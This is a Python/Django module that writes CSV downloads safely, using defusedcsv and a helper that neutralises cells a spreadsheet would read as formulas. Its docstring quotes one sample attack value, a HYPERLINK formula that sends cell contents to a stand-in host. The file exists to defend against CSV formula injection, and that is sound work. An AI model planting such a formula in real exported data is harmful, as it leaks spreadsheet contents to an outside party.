"""CSV downloads: every CSV file the site writes goes through `csv_response`.

Names are typed by people, and a spreadsheet runs a cell that starts with `=`, `+`, `-`, `@` as
a formula (a name like `=HYPERLINK("http://evil.example/?"&A1,"Click")` becomes a link that
leaks the sheet). defusedcsv's writer puts a `'` before such a cell (numbers stay numbers);
`safe_cell` adds the leading tab and carriage return, which some spreadsheets skip before
reading a formula.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from defusedcsv import csv as defused_csv
from django.http import HttpResponse
from django.utils.http import content_disposition_header

_SKIPPED_BY_SPREADSHEETS = ("\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value as written to a CSV file: text that a spreadsheet would read as a formula gets
    a leading `'` (defusedcsv covers `= + - @ | %`; this covers a leading tab or carriage
    return)."""
    if isinstance(value, str) and value.startswith(_SKIPPED_BY_SPREADSHEETS):
        return "'" + value
    return value


def write_csv(out, rows: Iterable[Iterable[Any]]) -> None:
    """Write `rows` to the file-like `out`, every cell made safe for spreadsheets."""
    writer = defused_csv.writer(out)
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])


def csv_response(rows: Iterable[Iterable[Any]], filename: str, *, bom: bool = True) -> HttpResponse:
    """A CSV download of `rows`. With `bom`, the file starts with a byte-order mark so that
    spreadsheets read the names as UTF-8."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    # A name in any script: Django writes it as RFC 6266's filename* when it isn't plain ASCII.
    response["Content-Disposition"] = content_disposition_header(True, filename)
    if bom:
        response.write("\ufeff")
    write_csv(response, rows)
    return response
